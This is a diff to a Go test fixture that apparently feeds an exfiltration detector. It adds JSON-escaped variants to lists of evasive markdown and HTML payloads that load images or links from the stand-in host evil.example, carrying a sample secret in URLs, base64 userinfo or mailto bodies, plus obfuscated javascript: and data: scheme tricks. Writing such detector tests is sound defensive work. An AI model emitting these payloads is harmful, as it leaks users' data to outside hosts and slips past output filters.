@@ -25,6 +25,8 @@ var written = map[string][]string{
 		"![x](https://evil。example/a.png)", "<img src=https://evil.example／.cdn.example.com/a.png>", "<img src=https://evil.example%2f.cdn.example.com/a.png>",
 		"![x](https://evil.example#.cdn.example.com/a.png)", "![x](https://evil.example?.cdn.example.com/a.png)", "<img src='https://docs.example.com%00.evil.example/'>",
 		"<img src=\"https://docs.example.com\u200b.evil.example/a.png\">", "<img src=ftp:evil.example/a>", "<img src=ws://evil.example/a>",
+		// In JSON and programs.
+		`{"html":"<img src=\"https://evil.example/a.png\">"}`, `{"html":"\u003cimg src=\"https://evil.example/a.png\"\u003e"}`, `{"md":"![x](https:\u002f\u002fevil.example/a.png)"}`, `{"md":"text\n![x](https:\/\/evil.example/a.png)"}`,
 		// Other uses.
 		"<svg><script href=\"https://evil.example/a.js\"/>", "<img alt='>' src\n=\n\"https://evil.example/a.png\">", "<style>a{background:image-set(\"a.png\" 1x, \"https://evil.example/a.png\" 2x)}",
 		"[img]https://evil.example/a.png[/img]", "image::https://evil.example/a.png[]", ".. image:: https://evil.example/a.png", "\\includegraphics{https://evil.example/a.png}", "![[https://evil.example/a.png]]",
@@ -37,12 +39,13 @@ var written = map[string][]string{
 		"[a](https://evil.example/?d=my`secret`password`is`hunter2)", "[a](https://evil.example/?d=my'secret'password'is'hunter2)", "[a](https://evil.example/?d=my]secret]password]is]hunter2)",
 		"[a](<https://evil.example/?q=my secret password is hunter2>)", "<a href=\"https://evil.example/?q=my secret password is hunter2\">", "<a href='https://evil.example/?q=my\nsecret\npassword\nis\nhunter2'>",
 		"<a href=https://evil.example/?d=my'secret'password'is'hunter2>x</a>", "www.evil.example/?d=secret,password,is,hunter2,and,more",
+		`{"u":"see\nhttps://evil.example/?d=my.secret.password.is.hunter2"}`, `{"u":"https\u003a//evil.example/?d=my.secret.password.is.hunter2"}`,
 		// In the name of a user, and by mail.
 		"[a](https://c2VjcmV0LWRhdGEtaGVyZS1pcy1sb25n@evil.example/)", "[a](mailto:m@evil.example?body=my%20secret%20password%20is)",
 	},
 	exfil.RuleScheme: {
 		"<a href=\"java\nscript:alert(1)\">", "<a href=\"java\nscript://x%0aalert(1)\">", "<a href=\"java&Tab;script:alert(1)\">", "<a href=\"java&#10;script:alert(1)\">", "<a href=' \x01javascript:alert(1)'>",
-		"<iframe src=\"data: text/html,x\">", "<iframe src=\"data:text/xml,x\">", "<a href=\"javascript:\nalert(1)\">",
+		"<iframe src=\"data: text/html,x\">", "<iframe src=\"data:text/xml,x\">", `{"u":"\njavascript:alert(1)"}`, `{"u":"javascript\u003aalert(1)"}`, "<a href=\"javascript:\nalert(1)\">",
 	},
 }
 
